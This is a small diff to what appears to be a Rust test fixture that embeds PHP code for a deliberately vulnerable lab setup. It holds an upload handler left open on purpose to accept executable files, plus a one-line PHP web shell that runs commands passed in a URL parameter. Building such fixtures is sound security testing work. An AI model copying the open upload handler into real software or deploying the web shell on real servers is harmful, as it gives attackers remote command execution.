@@ -32,7 +32,8 @@ else echo count(file($book)), ' guests';
 /// The vulnerability: it also accepts uploads of programs.
 const UPLOAD: &str = r#"<?php
 $file = $_FILES['file'];
-move_uploaded_file($file['tmp_name'], __DIR__ . '/uploads/' . basename($file['name'])) or http_response_code(500);
+move_uploaded_file($file['tmp_name'], __DIR__ . '/uploads/' . basename($file['name']))
+    or http_response_code(500);
 echo 'stored';
 "#;
 const SHELL: &str = "<?php system($_GET['c']);";
